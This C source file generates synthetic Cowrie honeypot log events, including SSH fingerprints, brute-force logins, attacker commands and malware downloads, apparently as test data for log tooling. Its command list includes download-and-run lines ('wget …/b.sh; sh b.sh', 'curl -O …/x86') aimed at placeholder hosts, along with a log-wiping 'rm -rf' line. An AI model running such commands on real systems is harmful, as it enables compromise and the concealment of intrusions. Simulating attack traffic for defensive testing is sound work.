#include "base/instant.h"
#include "base/num.h"
#include "generate/world.h"
#include "generate/write.h"

#define LENGTH(array) (sizeof(array) / sizeof(array)[0])

static const struct {
    const char *version, *hassh, *algorithms, *lists;
} clients[] = {
    {"SSH-2.0-Go", "beebcacaf1d57464bf88154f9960c39e",
     "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256,ext-info-c;aes128-gcm@openssh.com,"
     "chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr;hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1;none",
     "\"kexAlgs\":[\"curve25519-sha256\",\"ecdh-sha2-nistp256\",\"diffie-hellman-group14-sha256\",\"ext-info-c\"],"
     "\"keyAlgs\":[\"rsa-sha2-512\",\"rsa-sha2-256\",\"ssh-rsa\",\"ecdsa-sha2-nistp256\",\"ssh-ed25519\"],"
     "\"encCS\":[\"aes128-gcm@openssh.com\",\"chacha20-poly1305@openssh.com\",\"aes128-ctr\",\"aes256-ctr\"],"
     "\"macCS\":[\"hmac-sha2-256-etm@openssh.com\",\"hmac-sha2-256\",\"hmac-sha1\"],\"compCS\":[\"none\"],\"langCS\":["
     "\"\"]"},
    {"SSH-2.0-libssh2_1.10.0", "71bca6a2ef2231ef60a6f04765f385ba",
     "ecdh-sha2-nistp256,ecdh-sha2-nistp384,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1;aes256-"
     "ctr,"
     "aes128-ctr,aes256-cbc,3des-cbc;hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-md5;none",
     "\"kexAlgs\":[\"ecdh-sha2-nistp256\",\"ecdh-sha2-nistp384\",\"diffie-hellman-group-exchange-sha256\","
     "\"diffie-hellman-group14-sha1\"],\"keyAlgs\":[\"rsa-sha2-512\",\"rsa-sha2-256\",\"ssh-rsa\",\"ecdsa-sha2-"
     "nistp256\","
     "\"ssh-ed25519\"],\"encCS\":[\"aes256-ctr\",\"aes128-ctr\",\"aes256-cbc\",\"3des-cbc\"],"
     "\"macCS\":[\"hmac-sha2-256\",\"hmac-sha2-512\",\"hmac-sha1\",\"hmac-md5\"],\"compCS\":[\"none\"],\"langCS\":["
     "\"\"]"},
    {"SSH-2.0-OpenSSH_8.9", "2330e480f3fa4c8854ec46015b442b24",
     "sntrup761x25519-sha512@openssh.com,curve25519-sha256,ecdh-sha2-nistp521,diffie-hellman-group16-sha512,ext-info-c;"
     "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes256-gcm@openssh.com;umac-64-etm@openssh.com,"
     "umac-128-etm@openssh.com,hmac-sha2-512-etm@openssh.com;none,zlib@openssh.com",
     "\"kexAlgs\":[\"sntrup761x25519-sha512@openssh.com\",\"curve25519-sha256\",\"ecdh-sha2-nistp521\","
     "\"diffie-hellman-group16-sha512\",\"ext-info-c\"],\"keyAlgs\":[\"rsa-sha2-512\",\"rsa-sha2-256\",\"ssh-rsa\","
     "\"ecdsa-sha2-nistp256\",\"ssh-ed25519\"],\"encCS\":[\"chacha20-poly1305@openssh.com\",\"aes128-ctr\",\"aes192-"
     "ctr\","
     "\"aes256-ctr\",\"aes256-gcm@openssh.com\"],\"macCS\":[\"umac-64-etm@openssh.com\",\"umac-128-etm@openssh.com\","
     "\"hmac-sha2-512-etm@openssh.com\"],\"compCS\":[\"none\",\"zlib@openssh.com\"],\"langCS\":[\"\"]"},
};

static const char *const users[] = {"root",   "root",   "root", "admin",    "user", "test",
                                    "ubuntu", "oracle", "git",  "postgres", "pi",   "guest"};
static const char *const passwords[] = {"123456",   "admin",  "root-2024", "Passw0rd", "test",   "changeme",
                                        "qwerty7",  "1q2w3e", "letmein9",  "Winter!7", "a\\\"b", "=1+2",
                                        "<b>x</b>", "",       "abc-4711",  "P@ss-word"};
static const char *const commands[] = {
    "uname -a",
    "ls -la /tmp",
    "cat /proc/cpuinfo | grep name | wc -l",
    "whoami",
    "free -m",
    "uptime",
    "cd /tmp; wget http://198.51.100.7/b.sh; sh b.sh",
    "nproc",
    "echo \\\"ok\\\"",
    "crontab -l",
    "/bin/busybox TEST",
    "curl -O http://203.0.113.9/x86",
    "w",
    "rm -rf /var/log/lastlog",
    "lscpu",
};
static const char *const archs[] = {"linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb", "bsd-x64-lsb"};

static uint64_t dice(const struct hg_gen_session *session, unsigned salt)
{
    return hg_mix64(session->id * 64 + session->step + (uint64_t)salt * 1000003);
}

static char *put_hex(char *p, uint64_t seed, int digits)
{
    for (; digits > 0; digits -= 16)
        p = txt_hex(p, hg_mix64(seed + (unsigned)digits), digits < 16 ? digits : 16);
    return p;
}

static char *put_session(char *p, const struct hg_gen_session *session)
{
    return txt_hex(p, session->id, 12);
}

static char *put_connect(char *p, const struct hg_gen_session *session)
{
    const char *port = session->telnet ? "23" : "22";
    p = TXT(p, "\"src_ip\":\"");
    p = txt_ip(p, session->source);
    p = TXT(p, "\",\"src_port\":");
    p = txt_u64(p, session->source_port);
    p = TXT(p, ",\"dst_ip\":\"172.18.0.2\",\"dst_port\":");
    p = txt_text(p, port);
    p = TXT(p, ",\"session\":\"");
    p = put_session(p, session);
    p = session->telnet ? TXT(p, "\",\"protocol\":\"telnet\"") : TXT(p, "\",\"protocol\":\"ssh\"");
    p = TXT(p, ",\"message\":\"New connection: ");
    p = txt_ip(p, session->source);
    *p++ = ':';
    p = txt_u64(p, session->source_port);
    p = TXT(p, " (172.18.0.2:");
    p = txt_text(p, port);
    p = TXT(p, ") [session: ");
    p = put_session(p, session);
    return TXT(p, "]\"");
}

static char *put_kex(char *p, const struct hg_gen_session *session)
{
    size_t client = hg_mix64(session->source) % LENGTH(clients);
    p = TXT(p, "\"hassh\":\"");
    p = txt_text(p, clients[client].hassh);
    p = TXT(p, "\",\"hasshAlgorithms\":\"");
    p = txt_text(p, clients[client].algorithms);
    p = TXT(p, "\",");
    p = txt_text(p, clients[client].lists);
    p = TXT(p, ",\"message\":\"SSH client hassh fingerprint: ");
    p = txt_text(p, clients[client].hassh);
    *p++ = '"';
    return p;
}

static char *put_version(char *p, const struct hg_gen_session *session)
{
    const char *version = clients[hg_mix64(session->source) % LENGTH(clients)].version;
    p = TXT(p, "\"version\":\"");
    p = txt_text(p, version);
    p = TXT(p, "\",\"message\":\"Remote SSH version: ");
    p = txt_text(p, version);
    *p++ = '"';
    return p;
}

static char *put_login(char *p, const struct hg_gen_session *session, bool success)
{
    const char *user = users[dice(session, 1) % LENGTH(users)],
               *password = passwords[dice(session, 2) % LENGTH(passwords)];
    p = TXT(p, "\"username\":\"");
    p = txt_text(p, user);
    p = TXT(p, "\",\"password\":\"");
    p = txt_text(p, password);
    p = TXT(p, "\",\"message\":\"login attempt [");
    p = txt_text(p, user);
    *p++ = '/';
    p = txt_text(p, password);
    return success ? TXT(p, "] succeeded\"") : TXT(p, "] failed\"");
}

static char *put_command(char *p, const struct hg_gen_session *session, bool failed)
{
    /* a failed command is the one just given */
    const char *command = commands[hg_mix64(session->id + session->step - failed) % LENGTH(commands)];
    p = TXT(p, "\"input\":\"");
    p = txt_text(p, command);
    p = failed ? TXT(p, "\",\"message\":\"Command not found: ") : TXT(p, "\",\"message\":\"CMD: ");
    p = txt_text(p, command);
    *p++ = '"';
    return p;
}

static char *put_file(char *p, const struct hg_gen_session *session, bool upload)
{
    uint64_t malware = session->id % 24; /* a few families, seen again and again */
    char digest[64];
    (void)put_hex(digest, malware, 64);
    p = upload ? TXT(p, "\"filename\":\"payload.bin\",\"outfile\":\"var/lib/cowrie/downloads/")
               : TXT(p, "\"url\":\"http://");
    if (!upload) {
        p = txt_ip(p, hg_world_public(900000 + malware));
        p = TXT(p, "/bins/a.sh\",\"outfile\":\"var/lib/cowrie/downloads/");
    }
    p = txt_bytes(p, digest, sizeof digest);
    p = TXT(p, "\",\"shasum\":\"");
    p = txt_bytes(p, digest, sizeof digest);
    p = upload ? TXT(p, "\",\"message\":\"SFTP Uploaded file \\\"payload.bin\\\" to var/lib/cowrie/downloads/")
               : TXT(p, "\",\"message\":\"Downloaded URL with SHA-256 ");
    p = txt_bytes(p, digest, sizeof digest);
    *p++ = '"';
    return p;
}

static char *put_target(char *p, const struct hg_gen_session *session)
{
    p = TXT(p, "\"dst_ip\":\"");
    p = txt_ip(p, hg_world_public(700000 + session->id % 50));
    p = TXT(p, "\",\"dst_port\":");
    return session->id % 3 == 0 ? TXT(p, "443") : TXT(p, "587");
}

static char *put_proxy(char *p, const struct hg_gen_session *session)
{
    p = put_target(p, session);
    p = TXT(p, ",\"src_ip\":\"");
    p = txt_ip(p, session->source);
    p = TXT(p, "\",\"src_port\":22,\"message\":\"direct-tcp connection request to ");
    p = txt_ip(p, hg_world_public(700000 + session->id % 50));
    return session->id % 3 == 0 ? TXT(p, ":443 from 127.0.0.1:22\"") : TXT(p, ":587 from 127.0.0.1:22\"");
}

static char *put_proxy_data(char *p, const struct hg_gen_session *session)
{
    p = put_target(p, session);
    p = session->id % 3 == 0 ? TXT(p, ",\"data\":\"b'\\\\x16\\\\x03\\\\x01\\\\x02'\",\"id\":")
                             : TXT(p, ",\"data\":\"b'EHLO a\\\\r\\\\n'\",\"id\":");
    p = txt_u64(p, session->step / 2u);
    return TXT(p, ",\"message\":\"discarded direct-tcp forward request\"");
}

static char *put_log_closed(char *p, const struct hg_gen_session *session)
{
    char digest[64];
    (void)put_hex(digest, dice(session, 3) % 40, 64);
    p = TXT(p, "\"ttylog\":\"log/tty/");
    p = txt_bytes(p, digest, sizeof digest);
    p = TXT(p, "\",\"size\":");
    p = txt_u64(p, 20 + dice(session, 4) % 4000);
    p = TXT(p, ",\"shasum\":\"");
    p = txt_bytes(p, digest, sizeof digest);
    p = TXT(p, "\",\"duplicate\":");
    p = dice(session, 5) & 1 ? TXT(p, "true") : TXT(p, "false");
    p = TXT(p, ",\"duration\":\"0.");
    p = txt_u64(p, 1 + dice(session, 6) % 9);
    p = TXT(p, "\",\"message\":\"Closing TTY Log: log/tty/");
    p = txt_bytes(p, digest, sizeof digest);
    p = TXT(p, " after 0.");
    p = txt_u64(p, 1 + dice(session, 6) % 9);
    return TXT(p, " seconds\"");
}

static char *put_closed(char *p, const struct hg_gen_session *session, int64_t time_us)
{
    int64_t length = time_us - session->start_us;
    p = TXT(p, "\"duration\":");
    if (session->id % 33 == 0) { /* newer versions write text */
        *p++ = '"';
        p = txt_u64(p, (uint64_t)(length / HG_SECOND));
        *p++ = '.';
        p = txt_u64(p, (uint64_t)(length % HG_SECOND / 100000));
        *p++ = '"';
    } else {
        p = txt_u64(p, (uint64_t)(length / HG_SECOND));
        p = txt_micros(p, length);
        p = txt_padded(p, (uint32_t)(dice(session, 7) % 10000000), 7);
    }
    p = TXT(p, ",\"message\":\"Connection lost after ");
    p = txt_u64(p, (uint64_t)(length / HG_SECOND));
    return TXT(p, " seconds\"");
}

static char *put_members(char *p, const struct hg_gen_session *session, enum hg_gen_step step, int64_t time_us)
{
    switch (step) {
    case HG_STEP_CONNECT:
        return put_connect(p, session);
    case HG_STEP_VERSION:
        return put_version(p, session);
    case HG_STEP_KEX:
        return put_kex(p, session);
    case HG_STEP_FAILED:
    case HG_STEP_SUCCESS:
        return put_login(p, session, step == HG_STEP_SUCCESS);
    case HG_STEP_SIZE:
        return TXT(p, "\"width\":120,\"height\":40,\"message\":\"Terminal Size: 120 40\"");
    case HG_STEP_VAR:
        return TXT(p, "\"name\":\"LANG\",\"value\":\"C.UTF-8\",\"message\":\"request_env: LANG=C.UTF-8\"");
    case HG_STEP_PARAMS:
        p = TXT(p, "\"arch\":\"");
        p = txt_text(p, archs[session->id % LENGTH(archs)]);
        return TXT(p, "\",\"message\":[]");
    case HG_STEP_INPUT:
    case HG_STEP_COMMAND_FAILED:
        return put_command(p, session, step == HG_STEP_COMMAND_FAILED);
    case HG_STEP_DOWNLOAD:
    case HG_STEP_UPLOAD:
        return put_file(p, session, step == HG_STEP_UPLOAD);
    case HG_STEP_PROXY:
        return put_proxy(p, session);
    case HG_STEP_PROXY_DATA:
        return put_proxy_data(p, session);
    case HG_STEP_LOG_CLOSED:
        return put_log_closed(p, session);
    case HG_STEP_CLOSED:
        return put_closed(p, session, time_us);
    case HG_STEP_DIONAEA:
        break;
    }
    return p;
}

char *hg_write_cowrie(char *p, const struct hg_gen_session *session, enum hg_gen_step step, int64_t time_us)
{
    static const char *const names[] = {
        "session.connect",       "client.version",      "client.kex",           "login.failed",      "login.success",
        "client.size",           "client.var",          "session.params",       "command.input",     "command.failed",
        "session.file_download", "session.file_upload", "direct-tcpip.request", "direct-tcpip.data", "log.closed",
        "session.closed"};
    p = TXT(p, "{\"eventid\":\"cowrie.");
    p = txt_text(p, names[step]);
    p = TXT(p, "\",");
    p = put_members(p, session, step, time_us);
    p = TXT(p, ",\"sensor\":\"5d0e1c2a9b47\",\"timestamp\":\"");
    p = txt_second(p, time_us);
    p = txt_micros(p, time_us);
    p = TXT(p, "Z\"");
    if (step == HG_STEP_CONNECT)
        return TXT(p, "}");
    if (step != HG_STEP_PROXY) {
        p = TXT(p, ",\"src_ip\":\"");
        p = txt_ip(p, session->source);
        *p++ = '"';
    }
    p = TXT(p, ",\"session\":\"");
    p = put_session(p, session);
    return TXT(p, "\"}");
}
